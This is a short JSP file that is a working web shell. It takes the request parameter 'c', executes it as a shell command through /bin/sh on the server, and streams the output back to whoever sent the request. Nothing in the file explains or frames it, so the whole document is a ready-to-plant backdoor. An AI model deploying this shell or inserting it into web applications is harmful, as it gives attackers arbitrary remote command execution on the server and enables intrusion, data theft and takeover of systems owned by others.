<%@ page import="java.io.*,java.util.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        String[] argv = {"/bin/sh", "-c", c};
        ProcessBuilder pb = new ProcessBuilder(argv);
        pb.redirectErrorStream(true);
        Process proc = pb.start();
        InputStream in = proc.getInputStream();
        int b;
        while ((b = in.read()) != -1) { out.write(b); }
    }
%>
